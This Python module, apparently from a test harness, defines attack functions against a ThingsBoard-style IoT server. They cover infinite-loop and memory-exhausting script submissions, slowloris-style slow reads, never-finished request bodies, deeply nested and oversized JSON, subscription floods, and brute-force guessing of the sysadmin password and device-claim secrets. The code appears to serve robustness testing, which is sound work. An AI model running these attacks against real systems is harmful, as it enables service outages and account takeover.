"""Attacks over REST, WebSocket and the device APIs."""

from __future__ import annotations

import io
import socket
import time

from harness.chains import SAVE, Chain, script
from harness.rest import now_ms, unique

from .evil import ADDRESS, PATIENCE_S, Evil, attack

SPIN = "while (true) {}"
FIRST_MS = 1_700_000_000_000


@attack
def scripts_tried_in_parallel(evil: Evil) -> None:
    asked = {"script": SPIN, "scriptType": "filter", "argNames": ["msg", "metadata", "msgType"], "msg": "{}"}
    asked |= {"metadata": {}, "msgType": "POST_TELEMETRY_REQUEST"}
    evil.calls("POST", "/api/ruleChain/testScript?scriptLang=JS", threads=40, json=asked)


@attack
def scripts_tried_that_take_memory(evil: Evil) -> None:
    fill = "var a = []; while (true) { a.push('x'.repeat(100000) + a.length); }"
    asked = {"script": fill, "scriptType": "filter", "argNames": ["msg", "metadata", "msgType"], "msg": "{}"}
    asked |= {"metadata": {}, "msgType": "POST_TELEMETRY_REQUEST"}
    evil.calls("POST", "/api/ruleChain/testScript?scriptLang=JS", threads=40, json=asked)


def _values(evil: Evil) -> str:
    return f"/api/plugins/telemetry/DEVICE/{evil.devices[0].id}/values/timeseries"


@attack
def values_aggregated_by_the_millisecond(evil: Evil) -> None:
    for number in range(20):
        evil.post([{"ts": number * 1000 + n, "values": {"n": n}} for n in range(100)])
    path = f"{_values(evil)}?keys=n&startTs=0&endTs=700998&interval=1&agg=AVG&limit=1000000"
    evil.calls("GET", path, threads=30)


@attack
def large_values_read_slowly(evil: Evil) -> None:
    for number in range(60):
        evil.post({"ts": FIRST_MS + number, "values": {"text": "x" * 1_000_000}})
    request = (
        f"GET {_values(evil)}?keys=text&startTs=0&endTs={now_ms()}&limit=50000 HTTP/1.1\r\nHost: x\r\n"
        f"X-Authorization: Bearer {evil.rest.token}\r\n\r\n"
    )

    def read_slowly(_: int) -> None:
        with socket.create_connection(evil.server.http_address, PATIENCE_S, (ADDRESS, 0)) as connection:
            connection.sendall(request.encode())
            while time.monotonic() < evil.until and connection.recv(1000):
                time.sleep(0.05)

    evil.repeat(read_slowly, threads=30)


@attack
def large_values_sent(evil: Evil) -> None:
    body = '{"text":"' + "x" * 4_000_000 + '"}'
    evil.posts(body, threads=6)


@attack
def bodies_that_nest(evil: Evil) -> None:
    body = '{"a":' + "[" * 200_000 + "]" * 200_000 + "}"
    evil.posts(body)


@attack
def bodies_of_many_keys(evil: Evil) -> None:
    evil.repeat(lambda number: evil.post({f"key {number} {n}": n for n in range(5000)}, number))


@attack
def sockets_that_nobody_reads(evil: Evil) -> None:
    for number in range(40):
        evil.post({"ts": FIRST_MS + number, "values": {f"text{number % 10}": "x" * 500_000}})
    commands = [
        {
            "type": "TIMESERIES_HISTORY",
            "cmdId": number + 1,
            "entityType": "DEVICE",
            "entityId": evil.devices[0].id,
            "keys": ",".join(f"text{n}" for n in range(10)),
            "startTs": 0,
            "endTs": now_ms(),
            "limit": 50_000,
        }
        for number in range(10)
    ]
    for _ in range(30):
        evil.socket(*commands)
    evil.posts({"text0": "y" * 500_000}, threads=2)


@attack
def sockets_that_subscribe_without_end(evil: Evil) -> None:
    live = evil.socket()

    def subscribe(number: int) -> None:
        command = {"type": "TIMESERIES", "cmdId": number + 1, "entityType": "DEVICE"}
        live.commands(command | {"entityId": evil.devices[number % len(evil.devices)].id})

    evil.repeat(subscribe, threads=1)
    evil.posts({"n": 1}, threads=2)


@attack
def searches_that_find_nothing(evil: Evil) -> None:
    search = "textSearch=%25_%25a_%25b_%25c&pageSize=1000&page=0"
    evil.repeat(
        lambda number: evil.call("GET", f"/api/{('tenant/devices', 'alarms', 'audit/logs')[number % 3]}?{search}"),
        threads=16,
    )


@attack
def entity_queries_in_parallel(evil: Evil) -> None:
    while len(evil.devices) < 300 and time.monotonic() < evil.until - 3:
        evil.devices.append(evil.rest.create_device(unique("many")))
    keys = [{"type": "TIME_SERIES", "key": f"k{n}"} for n in range(100)]
    predicate = {"type": "STRING", "operation": "CONTAINS", "value": {"defaultValue": "a%a_a"}, "ignoreCase": True}
    body = {
        "entityFilter": {"type": "entityType", "entityType": "DEVICE"},
        "entityFields": [{"type": "ENTITY_FIELD", "key": "name"}],
        "latestValues": keys,
        "keyFilters": [{"key": key, "valueType": "STRING", "predicate": predicate} for key in keys[:20]],
        "pageLink": {"pageSize": 1000, "page": 0, "sortOrder": {"key": keys[0], "direction": "ASC"}},
    }
    evil.calls("POST", "/api/entitiesQuery/find", threads=16, json=body)


@attack
def devices_imported_in_parallel(evil: Evil) -> None:
    lines = "".join(f"{unique('row')},default,label\n" for _ in range(5000))
    body = {
        "file": "name,type,label\n" + lines,
        "mapping": {
            "columns": [{"type": "NAME"}, {"type": "TYPE"}, {"type": "LABEL"}],
            "delimiter": ",",
            "header": True,
            "update": True,
        },
    }
    evil.calls("POST", "/api/device/bulk_import", threads=4, json=body)


@attack
def chains_saved_without_end(evil: Evil) -> None:
    """Each save is a change that somebody has to take up."""
    chain = Chain()
    for number in range(100):
        chain.node(script("filter.TbJsFilterNode", "JS", f"return msg.n == {number};"))
    chain.connect(0, "True", chain.node(SAVE))
    saved = chain.save(evil.rest, root=True)
    body = {"ruleChainId": saved["id"], "firstNodeIndex": 0, "nodes": chain.nodes, "connections": chain.connections}
    evil.calls("POST", "/api/ruleChain/metadata", threads=4, json=body)
    evil.posts({"n": 1}, threads=2)


@attack
def profiles_saved_without_end(evil: Evil) -> None:
    profile = evil.rest.get("/api/deviceProfileInfo/default").json()
    whole = evil.rest.get(f"/api/deviceProfile/{profile['id']['id']}").json()
    evil.calls("POST", "/api/deviceProfile", threads=4, json=whole | {"version": None})
    evil.posts({"n": 1}, threads=2)


@attack
def passwords_guessed(evil: Evil) -> None:
    """The neighbour's log-ins and the operator's are no affair of whoever guesses."""
    guess = {"username": "sysadmin@thingsboard.org", "password": "wrong"}
    evil.repeat(
        lambda _: evil.http.post(f"{evil.server.http}/api/auth/login", json=guess, timeout=PATIENCE_S), threads=16
    )


@attack
def tokens_refreshed_without_end(evil: Evil) -> None:
    body = {"refreshToken": evil.rest.refresh_token}
    evil.calls("POST", "/api/auth/token", threads=16, json=body)


@attack
def claims_guessed(evil: Evil) -> None:
    customer, device = evil.tenancy.customer_user, evil.devices[0]
    headers = {"X-Authorization": f"Bearer {customer.token}"}
    evil.post({"secretKey": "right", "durationMs": 60_000}, kind="claim")
    path = f"{evil.server.http}/api/customer/device/{device.name}/claim"
    evil.repeat(
        lambda number: evil.http.post(path, json={"secretKey": f"{number}"}, headers=headers, timeout=PATIENCE_S),
        threads=16,
    )


@attack
def packages_uploaded_in_parallel(evil: Evil) -> None:
    profile = evil.rest.get("/api/deviceProfileInfo/default").json()
    info = {"deviceProfileId": profile["id"], "type": "FIRMWARE", "title": "evil"}

    def upload(number: int):
        saved = evil.call("POST", "/api/otaPackage", json=info | {"version": unique(str(number))}).json()
        data = io.BytesIO(b"x" * (4 << 20))
        return evil.call(
            "POST",
            f"/api/otaPackage/{saved['id']['id']}?checksumAlgorithm=SHA256",
            files={"file": ("evil.bin", data, "application/octet-stream")},
        )

    evil.repeat(upload, threads=6)


@attack
def requests_that_never_end(evil: Evil) -> None:
    """Bodies that are announced and never sent."""
    head = (
        "POST /api/ruleChain/metadata HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        f"Content-Length: 16000000\r\nX-Authorization: Bearer {evil.rest.token}\r\n\r\n{{"
    )

    def hang(_: int) -> None:
        with socket.create_connection(evil.server.http_address, PATIENCE_S, (ADDRESS, 0)) as connection:
            connection.sendall(head.encode() + b" " * 500_000)
            time.sleep(max(min(evil.until - time.monotonic(), 2), 0))

    evil.repeat(hang, threads=60)


@attack
def posts_as_fast_as_they_go(evil: Evil) -> None:
    """Nothing wrong with any of them, but their number."""
    rows = [{"ts": FIRST_MS + number, "values": {"n": number, "text": "x" * 100}} for number in range(200)]
    evil.posts(rows, threads=8)
